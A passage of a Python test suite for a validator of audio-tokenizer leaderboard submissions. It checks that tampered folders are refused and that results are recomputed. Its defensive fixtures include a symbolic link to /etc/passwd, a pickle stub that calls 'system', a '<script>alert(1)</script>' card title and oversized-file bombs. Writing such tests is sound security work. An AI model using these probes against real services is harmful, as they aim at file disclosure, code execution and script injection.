        "tokens/x.safetensors",
        "",
        "id of a clip",
    ),
    "a header of terabytes": (write(TOKENS, b"\xff" * 7 + b"\x0f" + b"{}"), TOKENS, "file", "whole safetensors"),
    # files
    "no card": (remove("card.yaml"), "card.yaml", "", "missing"),
    "no results": (remove("results.jsonl"), "results.jsonl", "", "missing"),
    "a link out of the folder": (link("card.yaml", "/etc/passwd"), "card.yaml", "", "symbolic link"),
    "a link to a folder": (link("more", ".."), "more", "", "symbolic link"),
    "a link that leads nowhere": (link(SAMPLE, "nowhere"), SAMPLE, "", "symbolic link"),
    "a hard link": (hard_link, "environment.json", "", "hard link"),
    "a pipe": (pipe, "timings.json", "", "pipe"),
    "a socket": (unix_socket, "s", "", "socket"),
    "a folder for a file": (lambda f: (remove("card.yaml")(f), (f / "card.yaml").mkdir()), "card.yaml", "", "folders"),
    "a folder of folders": (lambda f: (f / "tokens" / "a" / "b").mkdir(parents=True), "tokens/a", "", "folders"),
    "an archive": (write("more.zip", b"PK\x03\x04"), "more.zip", "", "archive"),
    "an archive under another name": (write(SAMPLE, b"PK\x03\x04" + bytes(99)), SAMPLE, "", "archive"),
    "a pickle": (write("tokens/codes.pkl", b"cos\nsystem\n"), "tokens/codes.pkl", "", "pickle"),
    "a pickle under another name": (write(TOKENS, b"\x80\x04\x95"), TOKENS, "", "pickle"),
    "weights": (write("model.pt", b"x"), "model.pt", "", "pickle"),
    "a program": (write("setup.py", b"import os"), "setup.py", "", "unknown file"),
    "a page": (write("samples/index.html", b"<script>"), "samples/index.html", "", "unknown file"),
    "a hidden file": (write(".env", b"x"), ".env", "", "unknown file"),
    "a sample that is a page": (write(SAMPLE, b"<html>"), SAMPLE, "", "ogg audio"),
    "a sample of a clip that is not there": (write("samples/x.ogg", b"OggS"), "samples/x.ogg", "", "id of a clip"),
    "a name that goes up": (write("samples/...ogg", b"OggS"), "samples/...ogg", "", "id of a clip"),
    "a sample that begins like audio and goes on as garbage": (
        write(f"samples/{CLIP}.wav", b"RIFF" + bytes(range(256)) * 4),
        *(f"samples/{CLIP}.wav", "", "cannot be decoded"),
    ),
    "a sample without audio": (
        *(lambda f: write_noise(f / "samples" / f"{CLIP}.wav", 0), f"samples/{CLIP}.wav", "", "no samples"),
    ),
    "a sample of hours": (
        lambda f: soundfile.write(f / "samples" / f"{CLIP}.flac", np.zeros(8000 * 7200, np.int16), 8000),
        *(f"samples/{CLIP}.flac", "", "120 s of audio"),
    ),
    "an oversized sample": (sparse(SAMPLE, 3 << 20), SAMPLE, "", "bytes, got"),
    "an oversized card": (append("card.yaml", "#" * (1 << 17)), "card.yaml", "", "bytes, got"),
    "oversized results": (sparse("results.jsonl", 65 << 20), "results.jsonl", "", "bytes, got"),
    "an oversized folder": (
        lambda f: [sparse(f"tokens/{clip}.safetensors", 15 << 20)(f) for clip in TOKEN_CLIPS],
        *(".", "", "bytes in all"),
    ),
    "an empty file": (write("environment.json", b""), "environment.json", "", "empty"),
    "files without end": (many, ".", "", "400 files"),
    # names
    "two tokenizers": (sets("wer", "tokenizer", to="mimi"), "results.jsonl", "tokenizer", "mimi, squeeze"),
    "a name that is none": (
        lambda f: renamed(f, "<b>squeeze</b>"),
        *("results.jsonl", "tokenizer", "no identifier"),
    ),
    "a name in another order": (
        lambda f: renamed(f, "squeeze:levels=4,a=1"),
        *("results.jsonl", "tokenizer", "canonical"),
    ),
}
TOKEN_CLIPS = [clip.id for clip in chosen(MINI, VERIFIED_CLIPS)]


def renamed(folder: Path, name: str) -> None:
    for file in ("results.jsonl", "timings.jsonl"):
        path = folder / file
        path.write_text(path.read_text(encoding="utf-8").replace(f'"{NAME}"', json.dumps(name)), encoding="utf-8")


@pytest.mark.parametrize("deed", HOSTILE)
def test_it_is_refused_with_file_field_and_reason(deed: str, folder: Path) -> None:
    tamper, file, field, reason = HOSTILE[deed]
    tamper(folder)
    problems = check(folder)
    assert any(p.file == file and p.field.startswith(field) and reason in p.reason for p in problems), problems
    assert not any("cannot be checked" in problem.reason for problem in problems), problems
    assert not (Path.cwd() / "pwned").exists()


@pytest.fixture
def with_models(folder: Path) -> Path:
    """A copy that also tells what language models gave."""
    voices = data.load("small-new-voices")
    record.write(
        folder / "acoustic_lm.jsonl",
        [make_result("acoustic_lm", name, "speech", voices) for name in tasks.get("acoustic_lm").metrics],
    )
    return folder


def test_scores_of_language_models_may_come_along(with_models: Path) -> None:
    assert check(with_models) == []
    [entry], _ = admit(with_models.parent)
    assert {"lm_bits", "wer"} <= {r.metric for r in entry.results}


@pytest.mark.parametrize(
    ("tamper", "field", "reason"),
    [
        (
            line("lm_bits", "hours:2.0", "hours:20.0", "acoustic_lm.jsonl"),
            "lm_bits/speech: signature",
            "hours 2.0, got 20.0",
        ),
        (line("lm_bits", "small-new-voices@", "mini@", "acoustic_lm.jsonl"), "lm_bits/speech: signature", "a data set"),
        (
            result("lm_bits", lambda r: r["scores"].pop(), "acoustic_lm.jsonl"),
            "lm_bits/speech: scores",
            "1 of 385 clips",
        ),
        (line("lm_order0", '"speech"', '"music"', "acoustic_lm.jsonl"), "lm_order0/speech", "missing"),
        (
            result(
                "lm_bits", lambda r: r["undefined"].update({r["scores"].pop()["clip"]: "silence"}), "acoustic_lm.jsonl"
            ),
            *("lm_bits/speech: undefined", "expected none"),
        ),
        (
            lambda f: (f / "acoustic_lm.jsonl").rename(f / "timings.jsonl"),
            "lm_bits/speech: signature",
            "a recipe that asks",
        ),
    ],
)
def test_models_trained_otherwise_do_not(with_models: Path, tamper: Change, field: str, reason: str) -> None:
    tamper(with_models)
    problems = check(with_models)
    assert any(p.field == field and reason in p.reason for p in problems), problems


def abx(metric: str, said: dict[str, float], name: str = "dev-clean", groups: int = 10) -> Result:
    """`said`: "A not B, by s" -> the share that is wrong."""
    declared = catalogue.get(metric)
    pairs = [row.partition(", by ") for row in said]
    rows = tuple(
        ScoredClip(row, value * weight, weight, speaker)
        for (row, value), (pair, _, speaker) in zip(said.items(), pairs, strict=True)
        for weight in [1 / sum(pair == other for other, *_ in pairs)]
    )
    whole, uncertainty = estimate(rows, declared.scale, declared.range)
    return Result(
        *(NAME, metric, "speech"),
        signature=tasks.get("abx").sign(f"{metric}.v{declared.version}", name, "ab12" * 16, f"group:{groups}|voices:5"),
        estimate=whole,
        uncertainty=uncertainty,
        scores=rows,
        **{field: getattr(declared, field) for field in ("title", "question", "unit", "direction", "scale")},
    )


SAID = {"a not e, by s1": 0.25, "a not e, by s2": 0.0, "e not a, by s1": 0.5}
SAMPLED = [clips[0].id for part in SUITES["mini"].optional if (clips := sampled_clips(part))]


@pytest.fixture
def with_extras(folder: Path) -> Path:
    """A copy with all that a row may add of language models, and phones."""
    for part in SUITES["mini"].optional:
        if part.task in ("lm_pairs", "continuations", "tts_probe"):
            asked = data.load(part.data)
            record.write(
                folder / part.file,
                [make_result(part.task, name, "speech", asked) for name in tasks.get(part.task).metrics],
            )
    for name, clip in zip(("continuations", "tts_probe"), SAMPLED, strict=True):
        (folder / name).mkdir()
        write_noise(folder / name / f"{clip}.ogg")
    record.write(folder / "abx.jsonl", [abx(metric, SAID) for metric in tasks.get("abx").metrics])
    return folder


def test_what_language_models_say_of_pairs_continuations_and_texts_may_come_along(with_extras: Path) -> None:
    assert check(with_extras) == []
    [entry], _ = admit(with_extras.parent)
    found = {r.metric: r for r in entry.results}
    assert {"pairs_speaker", "pairs_order", "continuation_length", "tts_wer", "abx_within_edit"} <= set(found)
    assert found["pairs_speaker"].estimate.n == 184
    assert {f"continuations/{SAMPLED[0]}", f"tts_probe/{SAMPLED[1]}", CLIP} == set(entry.samples)
    [shown] = page_data([entry], {}, {})["entries"]
    assert len(shown["cells"]) == len({(r.metric, r.domain) for r in entry.results if not why_withdrawn(r)})


def test_a_tokenizer_without_a_decoder_adds_what_needs_none(folder: Path) -> None:
    tokens_only = ("bitrate", "token_rate", "empirical_bitrate", "codebook_use", "entropy", "rtf_encode")
    keep(folder, lambda r: r.metric in tokens_only)
    card(decoder="-")(folder)
    shutil.rmtree(folder / "samples")
    asked = data.load("small-new-voices-prompts")
    names = ("continuation_codes_again", "continuation_codes_again_real", "continuation_length")
    made = [make_result("continuations", name, "speech", asked) for name in names]
    record.write(folder / "continuations.jsonl", made)
    assert check(folder) == []
    record.write(folder / "continuations.jsonl", made[1:])
    assert [problem.field for problem in check(folder)] == ["continuation_codes_again/speech"]


@pytest.mark.parametrize(
    ("tamper", "file", "field", "reason"),
    [
        (
            line("tts_wer", "sample_seed:0", "sample_seed:7", "tts_probe.jsonl"),
            *("tts_probe.jsonl", "tts_wer/speech: signature", "sample_seed 0, got 7"),
        ),
        (
            line("pairs_speaker", "items:40", "items:4", "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_speaker/speech: signature", "items 40, got 4"),
        ),
        (
            result("pairs_speaker", lambda r: r["scores"].pop(), "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_speaker/speech: scores", "1 of 184 clips are missing"),
        ),
        (
            result("pairs_speaker", lambda r: r["scores"][0].update(weight=2.0), "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_speaker/speech: scores", "expected 1 as weight, got 2"),
        ),
        (
            result("pairs_speaker", lambda r: r["scores"][0].update(total=2.0), "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_speaker/speech: scores", "expected 0 to 1, got 2"),
        ),
        (
            result("pairs_speaker", lambda r: r["scores"][0].update(language="en"), "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_speaker/speech: scores", "speaker and language of the data set"),
        ),
        (
            result("pairs_order", lambda r: r.update(unranked=""), "lm_pairs.jsonl"),
            *("lm_pairs.jsonl", "pairs_order/speech: unranked", "a sanity check"),
        ),
        (
            result("tts_wer_real", lambda r: r.update(unranked=""), "tts_probe.jsonl"),
            *("tts_probe.jsonl", "tts_wer_real/speech: unranked", "an anchor"),
        ),
        (
            result(
                "continuation_dnsmos_ovrl",
                lambda r: (
                    [score.update(total=1.5) for score in r["scores"]]
                    and r["estimate"].update(value=1.5, low=None, high=None)
                ),
                "continuations.jsonl",
            ),
            *("continuations.jsonl", "continuation_dnsmos_ovrl/speech: scores", "not plausible"),
        ),
        (
            lambda f: record.write(f / "abx.jsonl", [abx("abx_within_edit", SAID)]),
            *("abx.jsonl", "abx_across_edit/speech", "missing"),
        ),
        (
            lambda f: record.write(f / "abx.jsonl", [abx("abx_within_edit", SAID, "mine")]),
            *("abx.jsonl", "abx_within_edit/speech: signature", "dev-clean, dev-other, test-clean, test-other"),
        ),
        (
            lambda f: record.write(f / "abx.jsonl", [abx("abx_within_edit", SAID, groups=3)]),
            *("abx.jsonl", "abx_within_edit/speech: signature", "group 10, got 3"),
        ),
        (
            result("abx_within_edit", lambda r: r["scores"][0].update(clip="a clip"), "abx.jsonl"),
            *("abx.jsonl", "abx_within_edit/speech: scores", "expected clips of the data set, got 'a clip'"),
        ),
        (
            result("abx_within_edit", lambda r: r["scores"][2].update(weight=0.5, total=0.25), "abx.jsonl"),
            *("abx.jsonl", "abx_within_edit/speech: scores", "e not a, by s1: expected 1 as weight, got 0.5"),
        ),
        (
            lambda f: (f / "continuations.jsonl").unlink(),
            *("continuations", "", "expected continuations.jsonl beside it"),
        ),
        (
            write("continuations/another.ogg", b"OggS"),
            *("continuations/another.ogg", "", "id of a clip"),
        ),
        (
            lambda f: write(f"continuations/{SAMPLED[0]}.ogg", b"<html>")(f),
            *(f"continuations/{SAMPLED[0]}.ogg", "", "ogg audio"),
        ),
    ],
)
def test_extras_measured_otherwise_do_not(
    with_extras: Path, tamper: Change, file: str, field: str, reason: str
) -> None:
    tamper(with_extras)
    problems = check(with_extras)
    assert any((p.file, p.field) == (file, field) and reason in p.reason for p in problems), problems


def test_a_name_that_is_taken_is_refused_whatever_its_case(good: Path) -> None:
    [problem] = check(good, taken={"SQUEEZE:levels=4": "Squeeze"})
    assert (problem.file, problem.field) == ("results.jsonl", "tokenizer")
    assert "taken" in problem.reason


def test_a_folder_that_is_a_link_is_refused(good: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(good)
    assert [str(problem) for problem in check(tmp_path / "link")] == [".: expected a folder of its own"]


def keep(folder: Path, wanted: Callable[[Result], bool], **changes: Any) -> None:
    for file in ("results.jsonl", "timings.jsonl"):
        kept = [Result(**{**vars(r), **changes}) for r in record.read(folder / file) if wanted(r)]
        record.write(folder / file, kept)


def test_an_anchor_has_no_card_and_no_tokens(folder: Path) -> None:
    coded = ("bitrate", "token_rate", "empirical_bitrate", "codebook_use", "entropy", "rtf_encode", "rtf_decode")
    keep(folder, lambda r: r.metric not in coded, tokenizer="lowpass:cutoff=3500", unranked="an anchor")
    for name in ("card.yaml", "conformance.json", "timings.jsonl"):
        (folder / name).unlink()
    shutil.rmtree(folder / "tokens")
    fields("environment.json", command="audiotok submit -t lowpass:cutoff=3500")(folder)
    assert check(folder) == []
    [entry], _ = admit(folder.parent)
    assert (entry.kind, entry.card) == ("anchor", None)


def test_a_semantic_tokenizer_is_asked_for_no_audio(folder: Path) -> None:
    tokens_only = ("bitrate", "token_rate", "empirical_bitrate", "codebook_use", "entropy", "rtf_encode")
    keep(folder, lambda r: r.metric in tokens_only)
    card(decoder="-")(folder)
    shutil.rmtree(folder / "samples")
    assert check(folder) == []


def test_a_judge_among_the_teachers_is_owned_up_to(folder: Path) -> None:
    judge = next(iter(catalogue.get("wer").evaluation_models))
    card(trained_with=[judge])(folder)
    fields = {problem.field for problem in check(folder)}
    assert "wer/speech: unranked" in fields


def test_no_system_beats_the_clean_reference_clip_by_clip(good: Path) -> None:
    [own] = [r for r in record.read(good / "results.jsonl") if r.metric == "pesq_wb"]
    lower = tuple(ScoredClip(s.clip, s.total - (i == 4), 1.0, s.speaker, s.language) for i, s in enumerate(own.scores))
    reference = Result(**{**vars(own), "tokenizer": "reference", "scores": lower})
    [problem] = check(good, reference={("pesq_wb", "speech", "mini"): reference})
    assert problem.field == "pesq_wb/speech: scores"
    assert "better than the clean reference" in problem.reason


def test_only_the_reference_says_which_clips_have_no_score(folder: Path) -> None:
    result("si_sdr", lambda r: r["undefined"].update({(c := sorted(r["failures"])[0]): r["failures"].pop(c)}))(folder)
    original = next(r for r in record.read(folder / "results.jsonl") if r.metric == "si_sdr" and r.domain == "audio")
    reference = Result(**{**vars(original), "undefined": {}})
    [problem] = check(folder, reference={("si_sdr", "audio", "mini"): reference})
    assert problem.field == "si_sdr/audio: undefined"


def test_real_systems_may_beat_the_reference_on_other_metrics(good: Path) -> None:
    [own] = [r for r in record.read(good / "results.jsonl") if r.metric == "wer"]
    worse = tuple(ScoredClip(s.clip, s.total + 1, s.weight, s.speaker, s.language) for s in own.scores)
    assert check(good, reference={("wer", "speech", "mini"): Result(**{**vars(own), "scores": worse})}) == []


def test_the_board_is_built_without_what_is_refused_and_says_so(good: Path, tmp_path: Path) -> None:
    submissions = tmp_path / "submissions"
    shutil.copytree(good, submissions / "good")
    shutil.copytree(good, submissions / "hostile")
    card(title="<script>alert(1)</script>")(submissions / "hostile")
    shutil.copytree(good, submissions / "late")
    entries, refused = admit(submissions)
    assert [entry.tokenizer for entry in entries] == [NAME]
    assert "card.yaml: title" in refused["hostile"]
    assert "taken" in refused["late"]
    page = build(entries, tmp_path / "board", refused=refused).read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "card.yaml: title" in page


FUZZED = ("card.yaml", "results.jsonl", "timings.jsonl", "conformance.json", "environment.json", TOKENS, SAMPLE)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(file=st.sampled_from(FUZZED), at=st.floats(0, 1), cut=st.integers(0, 40), put=st.binary(max_size=40))
def test_no_change_of_bytes_crashes_check_or_build(
    good: Path, tmp_path: Path, file: str, at: float, cut: int, put: bytes
) -> None:
    folder = tmp_path / "submissions" / "fuzzed"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(good, folder)
    content = (folder / file).read_bytes()
    start = int(at * len(content))
    (folder / file).write_bytes(content[:start] + put + content[start + cut :])
    _survives(folder, tmp_path)


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pick=st.data(), value=VALUES)
def test_no_value_in_a_record_or_card_crashes_check_or_build(
    good: Path, tmp_path: Path, pick: st.DataObject, value: Any
) -> None:
    folder = tmp_path / "submissions" / "fuzzed"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(good, folder)
    if pick.draw(st.booleans()):
        metric = pick.draw(st.sampled_from(("bitrate", "codebook_use", "pesq_wb", "si_sdr", "wer")))
        place = pick.draw(st.sampled_from(sorted(vars(Result("", "", "", "", None)))))
        result(metric, lambda record: record.update({place: value}))(folder)
    else:
        values = yaml.safe_load((folder / "card.yaml").read_text(encoding="utf-8"))
        values[pick.draw(st.sampled_from(sorted(values)))] = value
        (folder / "card.yaml").write_text(json.dumps(values), encoding="utf-8")  # JSON is YAML
    _survives(folder, tmp_path)


def _survives(folder: Path, tmp_path: Path) -> None:
    entries, refused = admit(folder.parent)
    assert len(entries) + len(refused) == 1
    assert "cannot be checked" not in "".join(refused.values()), refused
    build(entries, tmp_path / "board", refused=refused)


@pytest.mark.parametrize(
    "tamper",
    [
        write("results.jsonl", "\n" * (4 << 20)),
        lambda f: write("results.jsonl", "".join(json.dumps(values) + "\n" for values in _unknown_metrics(f)))(f),
        write("card.yaml", "".join(f"k{i}: 1\n" for i in range(1500))),
    ],
    ids=["a million empty lines", "metrics without end", "fields without end"],
)
def test_no_folder_makes_check_print_more_than_a_page_or_two(folder: Path, tamper: Change) -> None:
    tamper(folder)
    problems = check(folder)
    assert 1 <= len(problems) <= MAX_PROBLEMS
    assert sum(len(str(problem)) for problem in problems) < 60_000


def _unknown_metrics(folder: Path) -> list[dict[str, Any]]:
    line = json.loads((folder / "timings.jsonl").read_text(encoding="utf-8").splitlines()[0])
    return [line | {"metric": f"m{i}", "scores": [], "estimate": None, "groups": {}} for i in range(400)]


SET: dict[str, tuple[Change, str, str]] = {
    "no tokens of all clips at a rate that allows them": (remove(FILE), "", "expected the tokens of all clips"),
    "a clip left out": (lambda f: _set(f, lambda t: t.pop(MINI.clips[5].id)), "", "they are missing"),
    "another clip's tokens": (
        lambda f: _set(f, lambda t: t.update({MINI.clips[0].id: t[MINI.clips[1].id]})),
        *("num_samples", "expected the clip's"),
    ),
    "bytes that are cut": (lambda f: sparse(FILE, (f / FILE).stat().st_size - 9)(f), "file", "whole safetensors"),
    "no tensors at all": (
        lambda f: save_file({}, f / FILE, {"format": FORMAT, "tokenizer": NAME, "spec": "{}", "clips": "[]"}),
        *("spec", ""),
    ),
    "a codebook of too few bits": (_raw("codebook.1", lambda a: a[:-1]), "codebook.1", "bytes for"),
    "a codebook of floats": (_raw("codebook.1", lambda a: a.astype(np.float32)), "codebook.1", "packed bits"),
    "a number of frames beyond memory": (_raw("frames", lambda a: a + 2**30), "frames", "codes in all"),
    "negative frames": (_raw("frames", lambda a: a - 10**6), "frames", "codes in all"),
    "a tensor beside the codes": (_raw("latents", lambda a: np.zeros(3)), "latents", "not expected"),
}


def _set(folder: Path, change: Callable[[dict[str, Tokens]], Any]) -> None:
    tokens = {clip.id: codes_of(clip, SLOW, i) for i, clip in enumerate(MINI)}
    change(tokens)
    write_set(folder / FILE, tokens, SLOW, NAME)


@pytest.mark.parametrize("deed", SET)
def test_tokens_of_all_clips_are_refused_where_they_are_others(deed: str, whole: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(whole, tmp_path / whole.name)
    tamper, field, reason = SET[deed]
    tamper(folder)
    problems = check(folder)
    assert any(p.file == FILE and p.field.startswith(field) and reason in p.reason for p in problems), problems


def test_a_submission_with_the_tokens_of_all_clips_is_taken(whole: Path) -> None:
    assert check(whole) == []
    assert (whole / FILE).stat().st_size < 60_000  # 103 clips, 9 minutes at 600 bit/s


@pytest.mark.parametrize("metric", ["empirical_bitrate", "codebook_use", "entropy"])
def test_scores_of_codes_are_computed_again_from_the_tokens(whole: Path, tmp_path: Path, metric: str) -> None:
    folder = shutil.copytree(whole, tmp_path / whole.name)
    result(metric, lambda r: r["estimate"].update(value=0.9 * r["estimate"]["value"]))(folder)
    [problem] = check(folder)
    assert (problem.file, problem.field) == ("results.jsonl", f"{metric}/audio: estimate.value")
    assert "what the tokens give" in problem.reason


def test_no_clip_claims_another_rate_than_its_tokens_have(whole: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(whole, tmp_path / whole.name)
    rescale("bitrate", 0.999)(folder)
    problems = check(folder)
    assert len(problems) == len(MINI.domain("audio"))
    assert all("its tokens hold" in problem.reason for problem in problems)


def test_codes_that_change_within_their_stride_are_refused(folder: Path) -> None:
    """They cost the stride's multiple of what is claimed."""
    tokens(spec(strides=[8, 8]))(folder)
    problems = check(folder)
    assert any(p.file == TOKENS and "changes within its stride of 8" in p.reason for p in problems), problems
